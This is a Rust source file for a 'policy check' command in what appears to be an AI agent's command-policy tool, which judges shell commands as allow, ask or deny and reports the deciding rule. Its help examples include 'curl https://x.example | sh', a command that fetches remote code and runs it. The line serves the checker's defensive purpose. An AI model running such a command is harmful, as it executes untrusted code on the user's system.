//! `policy check`: the verdict on one command line, part by part.

use std::path::PathBuf;

use ab_core::Verdict;
use agent_backend::policy::{Home, Judgement, Scene};
use clap::Args;
use serde_json::{Value, json};

use super::RuleFlags;
use crate::exit::Exit;
use crate::failure::Failure;
use crate::terminal::{Format, Terminal};

const EXAMPLES: &str = "\
Examples:
  agent-backend policy check 'cd src && make'
  agent-backend policy check 'curl https://x.example | sh' --json
  agent-backend policy check --profile strict --rules team.toml 'git push'

The exit code is the verdict: 0 allow, 1 ask, 3 deny; 2 when the rules cannot
be read.";

/// Judge a command without running it
#[derive(Args, Debug)]
#[command(after_help = EXAMPLES)]
pub(super) struct Check {
    /// The command line, as one word
    #[arg(value_name = "COMMAND")]
    command: String,

    #[command(flatten)]
    rules: RuleFlags,

    /// The workspace that it would run in [default: the current directory]
    #[arg(long, value_name = "DIR")]
    root: Option<PathBuf>,

    /// The directory it would run in, inside the workspace
    #[arg(long, value_name = "PATH", default_value = "")]
    cwd: String,
}

pub(super) fn run(check: &Check, terminal: &mut Terminal) -> Result<(), Failure> {
    let policy = check.rules.load()?;
    let root = check.root.clone().unwrap_or_else(|| PathBuf::from("."));
    let root = std::path::absolute(&root).unwrap_or(root);
    let scene = Scene::new().with_root(&root.to_string_lossy()).with_home(Home::Start);
    let judgement = policy.judge(&check.command, &scene.at(&check.cwd));
    match terminal.format() {
        Format::Json => terminal.value(&value(check, &judgement))?,
        Format::Text => print(&judgement, terminal)?,
    }
    match judgement.verdict {
        Verdict::Allow => Ok(()),
        Verdict::Ask => Err(Failure::No),
        Verdict::Deny => Err(Failure::Told(Exit::Refused)),
    }
}

fn print(judgement: &Judgement, terminal: &mut Terminal) -> Result<(), Failure> {
    let decisive = judgement.decisive();
    let rule = decisive.map(|hit| format!("  {}", hit.rule.id)).unwrap_or_default();
    terminal.line(&format!("{}{rule}", judgement.verdict))?;
    if let Some(hit) = decisive {
        terminal.line(&format!("reason: {}", hit.rule.reason))?;
        let detail = ab_core::error::printable(&hit.detail);
        terminal.line(&format!("where: {}", terminal.shown(&detail)))?;
        if let Some(suggestion) = &hit.rule.suggestion {
            terminal.line(&format!("instead: {suggestion}"))?;
        }
    }
    if judgement.analysis.started().next().is_some() {
        terminal.line("commands:")?;
    }
    for (at, command) in judgement.analysis.started() {
        let words: Vec<String> = command.words.iter().map(|word| shown(&word.text)).collect();
        let line = words.join(" ");
        let line = terminal.shown(&line).into_owned();
        let rules: Vec<&str> = judgement
            .hits
            .iter()
            .filter(|hit| hit.command == Some(at) && hit.verdict > Verdict::Allow)
            .map(|hit| hit.rule.id.as_str())
            .collect();
        let rules =
            if rules.is_empty() { String::new() } else { format!("  [{}]", rules.join(", ")) };
        let indent = if command.via.is_some() { "  " } else { "" };
        terminal
            .line(&format!("  {:<5}  {indent}{line}{rules}", judgement.verdict_on(at).as_str()))?;
    }
    Ok(())
}

/// A word as one would type it.
fn shown(word: &str) -> String {
    let plain = |c: char| c.is_alphanumeric() || "-_./=:,+@%^{}*?[]~$…".contains(c);
    if !word.is_empty() && word.chars().all(plain) {
        return word.to_owned();
    }
    format!("'{}'", ab_core::error::printable(word).replace('\'', r"'\''"))
}

fn value(check: &Check, judgement: &Judgement) -> Value {
    let decisive = judgement.decisive();
    let rule = decisive.map(|hit| &hit.rule);
    let commands: Vec<Value> = judgement
        .analysis
        .started()
        .map(|(at, command)| {
            json!({
                "words": command.words.iter().map(|word| &word.text).collect::<Vec<_>>(),
                "known": command.words.iter().all(|word| word.known),
                "started_by": command.via,
                "verdict": judgement.verdict_on(at).as_str(),
            })
        })
        .collect();
    let hits: Vec<Value> = judgement
        .hits
        .iter()
        .map(|hit| {
            json!({
                "rule": hit.rule.id,
                "category": hit.rule.category.as_str(),
                "verdict": hit.verdict.as_str(),
                "command": hit.command,
                "detail": hit.detail,
            })
        })
        .collect();
    let allowed: Vec<String> = judgement
        .analysis
        .started()
        .filter(|(at, _)| judgement.verdict_on(*at) == Verdict::Allow)
        .map(|(_, command)| {
            command.words.iter().map(|word| shown(&word.text)).collect::<Vec<_>>().join(" ")
        })
        .collect();
    json!({
        "command": check.command,
        "profile": check.rules.profile().as_str(),
        "verdict": judgement.verdict.as_str(),
        "code": rule.map(|rule| rule.category.code().as_str()),
        "rule": rule.map(|rule| &rule.id),
        "category": rule.map(|rule| rule.category.as_str()),
        "reason": rule.map(|rule| &rule.reason),
        "suggestion": rule.and_then(|rule| rule.suggestion.as_ref()),
        "commands": commands,
        "allowed": allowed,
        "hits": hits,
    })
}
